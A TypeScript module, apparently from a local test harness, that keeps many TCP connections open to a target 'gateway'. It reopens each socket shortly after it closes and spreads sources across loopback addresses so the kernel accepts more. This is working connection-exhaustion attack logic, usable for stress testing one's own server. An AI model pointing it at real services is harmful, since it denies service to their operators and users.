import { connect, type Socket } from 'node:net';
import type { Counter } from './tally.ts';

/** The gateway to attack. */
export interface Target {
  readonly host: string;
  readonly port: number;
}

/** The outcome of a connection that the kernel accepted. */
const OPENED = 'opened';
/** A refused connection is tried again after this time, so that an attacker does not only open sockets. */
const REOPEN_AFTER_MS = 100;
/** Sockets that an attacker opens at once, as a kernel accepts only so many that wait. */
const OPENED_AT_ONCE = 50;
const OPENED_EVERY_MS = 10;

/** Keeps `connections` sockets open from so many addresses, and calls `use` with each new socket. */
export function keepOpen(
  target: Target,
  { connections, addresses = 1 }: { readonly connections: number; readonly addresses?: number },
  counter: Counter,
  use: (socket: Socket) => void,
): void {
  const open = (number: number): void => {
    const socket = connect({ ...target, localAddress: addressOf(number % addresses) });
    socket.setNoDelay();
    socket.on('connect', () => {
      counter.count(OPENED);
      use(socket);
    });
    socket.on('error', (error: NodeJS.ErrnoException) => counter.count(error.code ?? 'error'));
    socket.on('close', (hadError) => {
      if (!hadError) counter.count('closed');
      setTimeout(open, REOPEN_AFTER_MS, number);
    });
  };
  for (let number = 0; number < connections; number += 1) setTimeout(open, Math.floor(number / OPENED_AT_ONCE) * OPENED_EVERY_MS, number);
}

/** Every address of 127.0.0.0/8 is one of this machine. The victim uses 127.0.0.1. */
const addressOf = (number: number): string => `127.0.${1 + Math.floor(number / 200)}.${1 + (number % 200)}`;
